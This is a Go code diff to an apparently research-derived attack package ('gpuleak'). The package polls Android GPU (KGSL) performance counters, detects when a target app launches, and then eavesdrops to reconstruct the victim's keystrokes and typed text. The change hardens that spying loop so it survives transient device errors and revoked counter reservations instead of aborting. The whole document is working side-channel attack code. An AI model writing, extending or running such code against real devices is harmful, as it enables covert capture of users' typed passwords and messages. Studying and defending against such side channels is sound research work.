@@ -1,6 +1,7 @@
 package attack
 
 import (
+	"errors"
 	"math"
 
 	"gpuleak/internal/kgsl"
@@ -56,15 +57,18 @@ type MonitorResult struct {
 
 // MonitorAndEavesdrop runs the full Figure-4 online phase: low-duty
 // polling until a target-app launch fingerprint appears, then full-rate
-// eavesdropping until end.
-func (a *Attack) MonitorAndEavesdrop(f *kgsl.File, start, end sim.Time, opts MonitorOptions) (*MonitorResult, error) {
+// eavesdropping until end. f is any DeviceFile; with a.Retry enabled,
+// transient device errors during the idle wait cost at most the missed
+// tick (plus a re-reservation when the counter group was revoked)
+// instead of aborting the watch.
+func (a *Attack) MonitorAndEavesdrop(f DeviceFile, start, end sim.Time, opts MonitorOptions) (*MonitorResult, error) {
 	interval := a.Interval
 	if interval <= 0 {
 		interval = DefaultInterval
 	}
 	opts = opts.withDefaults(interval)
 
-	s, err := NewSampler(f, opts.IdleInterval)
+	s, err := NewSamplerRetry(f, opts.IdleInterval, a.Retry)
 	if err != nil {
 		return nil, err
 	}
@@ -74,8 +78,9 @@ func (a *Attack) MonitorAndEavesdrop(f *kgsl.File, start, end sim.Time, opts Mon
 		obs.Int("idle_interval_us", int(opts.IdleInterval)))
 	out := &MonitorResult{}
 	prev, err := f.ReadSelected(start)
-	if err != nil {
-		return nil, err
+	havePrev := err == nil
+	if err != nil && (!a.Retry.Enabled() || !Retryable(err)) {
+		return nil, &SampleError{At: start, Op: "read", Attempts: 1, Err: err}
 	}
 	// Recent non-zero deltas; a launch frame may split across two idle
 	// reads, so suffix sums of the last few deltas are matched too.
@@ -87,12 +92,34 @@ func (a *Attack) MonitorAndEavesdrop(f *kgsl.File, start, end sim.Time, opts Mon
 
 	var detected *Model
 	var detectedAt sim.Time
+	badTicks := 0
 	for t := start + opts.IdleInterval; t <= end; t += opts.IdleInterval {
 		cur, err := f.ReadSelected(t)
 		if err != nil {
-			return nil, err
+			// A transient failure while idling costs at most the missed
+			// tick: a launch fingerprint spans several reads, so the
+			// low-duty watcher tolerates holes the same way the full-rate
+			// sampler converts them into trace gaps.
+			if !a.Retry.Enabled() || !Retryable(err) {
+				return nil, &SampleError{At: t, Op: "read", Attempts: 1, Err: err}
+			}
+			badTicks++
+			if a.Retry.MaxBadTicks > 0 && badTicks > a.Retry.MaxBadTicks {
+				return nil, &SampleError{At: t, Op: "read", Attempts: badTicks, Err: err}
+			}
+			if errors.Is(err, kgsl.ErrNotReserved) {
+				// Best effort: re-reserve now so the next tick can read.
+				_ = f.ReserveSelected(t)
+			}
+			continue
 		}
+		badTicks = 0
 		out.IdleReads++
+		if !havePrev {
+			prev = cur
+			havePrev = true
+			continue
+		}
 		var d trace.Vec
 		changed := false
 		for i := range d {
@@ -154,12 +181,15 @@ func (a *Attack) MonitorAndEavesdrop(f *kgsl.File, start, end sim.Time, opts Mon
 	eng.SetObs(a.Obs)
 	eng.ProcessAll(tr.Deltas())
 	RecordEngineStats(a.Obs.Metrics(), eng.Stats())
+	stats := eng.Stats()
 	out.Result = &Result{
 		Model:           detected.Key,
 		Keys:            eng.Keys(),
 		Text:            eng.Text(),
-		Stats:           eng.Stats(),
+		Stats:           stats,
 		EstimatedLength: eng.EstimatedLength(),
+		Degraded:        stats.Gaps > 0 || stats.Resyncs > 0 || s.Stats.Degraded(),
+		Recovery:        s.Stats,
 	}
 	return out, nil
 }
